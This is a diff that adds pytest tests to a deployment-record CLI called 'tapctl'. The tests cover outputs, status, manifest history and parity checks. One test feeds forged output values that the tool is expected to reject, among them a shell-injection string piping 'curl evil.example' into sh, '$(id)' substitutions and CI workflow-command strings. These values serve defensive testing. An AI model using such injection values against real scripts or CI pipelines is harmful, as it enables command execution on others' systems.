@@ -83,6 +83,54 @@ def test_outputs_of_what_is_not_there(two: World, arguments: list[str], code: in
         assert word in answer.err
 
 
+@pytest.mark.parametrize(
+    "value",
+    [
+        "a.example\nPATH=/tmp",
+        "x; curl evil.example | sh",
+        "$(id)",
+        "`id`",
+        "a b",
+        "",
+        "::set-output::x y",
+        "a\x1b[2J",
+        "ä",
+    ],
+)
+@pytest.mark.parametrize("name", ["cluster_endpoint", None])
+def test_a_forged_output_is_not_handed_to_a_script(record: World, value: str, name: str | None) -> None:
+    forged = record.manifest()
+    forged["entries"]["db-cluster/db-cluster-dev"]["outputs"]["endpoint"] = value
+    record.path().write_text(json.dumps(forged))
+    answer = record.tapctl("outputs", *filter(None, [name]), "--env", "dev")
+    assert (answer.code, answer.out) == (3, "")
+    assert "cluster_endpoint = " in answer.err
+    assert all(line.isprintable() for line in answer.err.splitlines())
+
+
+def test_outputs_that_the_record_lacks_are_left_out(record: World) -> None:
+    forged = record.manifest()
+    del forged["entries"]["db-cluster/db-cluster-dev"]["outputs"]["endpoint"]
+    del forged["entries"]["security-group/db-sg-dev"]["outputs"]["group_id"]
+    record.path().write_text(json.dumps(forged))
+    answer = record.tapctl("outputs", "--env", "dev")
+    assert answer.code == 0
+    assert "cluster_arn=" in answer.out
+    assert "cluster_endpoint=" not in answer.out
+    assert "db_security_group_id=" not in answer.out
+
+
+def test_a_record_that_speaks_to_a_ci_system_is_shown_as_the_same_json_without_speaking(record: World) -> None:
+    forged = record.manifest()
+    forged["entries"]["sns-topic/alarms-dev"]["spec"]["tags"]["a"] = "##vso[task.x]\n::error::y"
+    record.path().write_text(json.dumps(forged))
+    for flags in ([], ["--json"]):
+        answer = record.tapctl("manifest", "show", "--env", "dev", *flags)
+        assert "##vso" not in answer.out
+        document = answer.of_type("document")[0] if flags else json.loads(answer.out)
+        assert document["entries"] == forged["entries"]
+
+
 def test_status_is_one_row_an_environment(two: World) -> None:
     answer = two.tapctl("status")
     assert (answer.code, answer.changes) == (0, ())
@@ -107,13 +155,13 @@ def test_status_of_one(two: World) -> None:
 
 
 def test_status_says_what_is_not_well(two: World) -> None:
-    two.client("sns").delete_topic(TopicArn="arn:aws:sns:us-east-2:123456789012:alarms-dev")
+    two.client("cloudwatch", "us-east-2").delete_alarms(AlarmNames=["db-cpu-0-dev"])
     two.edit("dev.toml", "memory_mb = 1024", "memory_mb = 2048")
     answer = two.tapctl("status", "--json")
     two.edit("dev.toml", "memory_mb = 2048", "memory_mb = 1024")
     two.applied("dev")
     dev, staging = answer.of_type("status")
-    assert dev["health"] == "sns-topic/alarms-dev is missing"
+    assert dev["health"] == "cloudwatch-alarm/db-cpu-0-dev is missing"
     assert dev["config"] == "differs from the files"
     assert (staging["health"], staging["config"]) == ("healthy", "current")
     assert answer.records[-1]["counts"] == {"deployed": 2, "unhealthy": 1}
@@ -124,8 +172,9 @@ def test_status_tells_what_the_record_says_where_aws_cannot_be_asked(two: World)
     answer = two.tapctl("status", "--json")
     two.edit("dev.toml", "memory_mb = 1", "memory_mb = 1024")
     dev, staging = answer.of_type("status")
-    assert answer.code == 0
-    assert (dev["health"], dev["resources"]) == ("unknown: the configuration is not valid", len(two.stack()))
+    assert answer.code == 3
+    assert dev["health"].startswith("unknown: the configuration is not valid (environments/dev.toml: ")
+    assert dev["resources"] == len(two.stack())
     assert staging["health"] == "healthy"
 
 
@@ -167,6 +216,16 @@ def test_manifest_show_is_the_record_itself(two: World) -> None:
     assert {name: value for name, value in told.items() if name != "type"} == json.loads(answer.out)
 
 
+def test_the_history_of_an_apply_is_one_row_and_versions_can_be_compared(two: World) -> None:
+    (row,) = two.tapctl("manifest", "history", "--env", "staging", "--json").of_type("row")
+    assert (row["made"], row["begun"]) == (len(two.stack("staging")), 0)
+    assert "kms-key/alias/db-key-staging" in row["addresses"]["made"]
+    assert row["what"].startswith("21 made: ")
+    answer = two.tapctl("manifest", "diff", "--from", "1", "--env", "staging")
+    assert (answer.code, answer.asked) == (0, ())
+    assert f"differences between serial 1 and serial {row['serial']}" in answer.verdict
+
+
 def test_parity_holds_with_only_allowed_differences(two: World) -> None:
     answer = two.tapctl("parity")
     assert (answer.code, answer.asked) == (0, ())
@@ -203,6 +262,43 @@ def test_parity_shows_a_release_on_its_way(two: World) -> None:
     two.edit("prod.toml", 'image = { tag = "1.0.1" }', '# image = { tag = "1.0.1" }')
     (row,) = (one for one in answer.of_type("difference") if one["what"] == "processor.image.tag")
     assert (row["verdict"], row["values"]) == ("allowed", {"dev": "1.0.0", "prod": "1.0.1", "staging": "1.0.0"})
+
+
+def test_parity_does_not_allow_two_images_under_one_tag(record: World) -> None:
+    pushed = record.manifest()
+    spec = pushed["entries"]["lambda-function/payment-processor-dev"]["spec"]
+    spec["image_uri"] = f"{spec['image_uri'].partition('@')[0]}@sha256:{'7' * 64}"
+    record.path().write_text(json.dumps(pushed))
+    answer = record.tapctl("parity", "--json")
+    assert answer.code == 2
+    (row,) = (one for one in answer.of_type("difference") if one["verdict"] == "NOT ALLOWED")
+    assert row["what"] == "lambda-function/payment-processor-<name> image_uri"
+    assert row["values"]["dev"].endswith("7" * 64)
+    # Another tag may be another image, while a release is promoted.
+    record.edit("dev.toml", "[processor]", '[processor]\nimage = { tag = "1.0.1" }')
+    config_hash = record.tapctl("validate", "--env", "dev", "--json").of_type("output")[0]["value"]
+    record.path().write_text(json.dumps({**pushed, "config_hash": config_hash}))
+    promoted = record.tapctl("parity", "--json")
+    record.edit("dev.toml", '[processor]\nimage = { tag = "1.0.1" }', "[processor]")
+    assert promoted.code == 0
+
+
+def test_parity_in_the_middle_of_a_rollout_names_who_has_not_been_applied(record: World) -> None:
+    applied = record.manifest()
+    applied["entries"]["lambda-function/payment-processor-dev"]["spec"]["timeout_s"] = 60
+    applied["entries"]["db-cluster/db-cluster-dev"]["spec"]["backup_window"] = "01:00-02:00"
+    record.edit("common.toml", "timeout_s = 30", "timeout_s = 60")
+    config_hash = record.tapctl("validate", "--env", "dev", "--json").of_type("output")[0]["value"]
+    record.path().write_text(json.dumps({**applied, "config_hash": config_hash}))
+    text, answer = record.tapctl("parity"), record.tapctl("parity", "--json")
+    record.edit("common.toml", "timeout_s = 60", "timeout_s = 30")
+    since = record.manifest("staging")["written_at"]
+    assert (text.code, answer.code) == (2, 2)
+    assert f"staging has not been applied since {since}, and its files have changed" in text.out
+    assert "NOT ALLOWED" not in text.out
+    assert "0 not allowed · 1 not applied · compared 3 environments, 1 of them" in text.verdict
+    counts = answer.records[-1]["counts"]
+    assert (counts["disallowed"], counts["not_applied"]) == (0, 1)
 
 
 def test_parity_reports_a_recorded_difference_that_is_not_allowed(record: World) -> None:
